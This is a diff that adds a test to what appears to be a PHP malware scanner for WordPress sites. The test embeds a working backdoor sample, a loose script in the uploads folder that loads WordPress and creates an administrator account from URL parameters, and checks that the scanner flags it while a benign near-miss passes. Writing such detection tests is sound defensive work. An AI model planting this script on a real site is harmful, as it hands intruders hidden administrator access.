@@ -1116,3 +1116,14 @@ def test_callbacks_of_callbacks_base64_names_and_unserialize_gadgets(eng):
     near = (b"<?php\nclass Money { public $v; function __toString() { return number_format($this->v, 2); } }\n"
             b"$opts = unserialize(get_option('my_opts'));\n$cb = array_map('intval', (array) $_GET['ids']);\n")
     assert not eng.analyse(near, '/var/www/html/m.php').suspicious
+
+
+def test_loose_script_that_boots_wordpress_to_make_an_administrator(eng):
+    src = (b"<?php\n$d = __DIR__;\nwhile (!file_exists($d . '/wp-load.php')) { $d = dirname($d); }\n"
+           b"require_once $d . '/wp-load.php';\n$id = wp_create_user($_GET['u'], $_GET['p'], $_GET['m']);\n"
+           b"$u = new WP_User($id);\n$u->set_role('administrator');\necho 'ok';\n")
+    v = eng.analyse(src, '/var/www/html/wp-content/uploads/x.php')
+    assert v.suspicious and 'php.backdoor.admin_account' in rules(v), v
+    near = (b"<?php\nrequire_once __DIR__ . '/wp-load.php';\nif (!current_user_can('manage_options')) { wp_die('no'); }\n"
+            b"echo esc_html(get_role('administrator')->name);\n")
+    assert not eng.analyse(near, '/var/www/html/roles.php').suspicious
